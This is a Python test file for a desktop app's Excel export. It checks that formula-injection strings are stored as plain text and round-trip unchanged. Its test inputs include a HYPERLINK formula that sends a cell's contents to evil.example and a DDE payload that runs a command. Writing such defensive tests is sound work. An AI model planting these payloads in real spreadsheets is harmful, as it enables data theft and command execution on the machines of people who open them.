"""Exported text never becomes a formula and comes back unchanged."""

from __future__ import annotations

import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

from openpyxl import Workbook

from desktop.services.xlsx_guard import read_workbook
from desktop.services.xlsx_write import set_cell, write_cell

RISKY = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=tab",
    "=cmd|' /C calc'!A0",
]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_write_only_export_has_no_formulas_and_round_trips(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Data")
    for text in RISKY:
        sheet.append([write_cell(sheet, text)])
    sheet.append(
        [
            write_cell(sheet, "13812345678"),
            write_cell(sheet, "91320100MA1XYZ1234"),
            write_cell(sheet, Decimal("12800000.50")),
            write_cell(sheet, date(2026, 3, 8)),
            write_cell(sheet, "备注\x0b第二行"),
        ]
    )
    book.save(path)
    assert "<f>" not in _sheet_xml(path)
    with read_workbook(path) as workbook:
        rows = [list(row) for row in workbook["Data"].iter_rows(values_only=True)]
    assert [row[0] for row in rows[: len(RISKY)]] == RISKY
    phone, credit_code, amount, day, note = rows[-1]
    assert (phone, credit_code) == ("13812345678", "91320100MA1XYZ1234")
    assert amount == 12800000.5 and day.date() == date(2026, 3, 8)
    assert note == "备注第二行"


def test_normal_workbook_cells_are_safe_too(tmp_path: Path) -> None:
    path = tmp_path / "normal.xlsx"
    book = Workbook()
    for row, text in enumerate(RISKY, start=1):
        assert set_cell(book.active, row, 1, text).data_type == "s"
    assert set_cell(book.active, 20, 1, "bell\x07").value == "bell"
    book.save(path)
    assert "<f>" not in _sheet_xml(path)
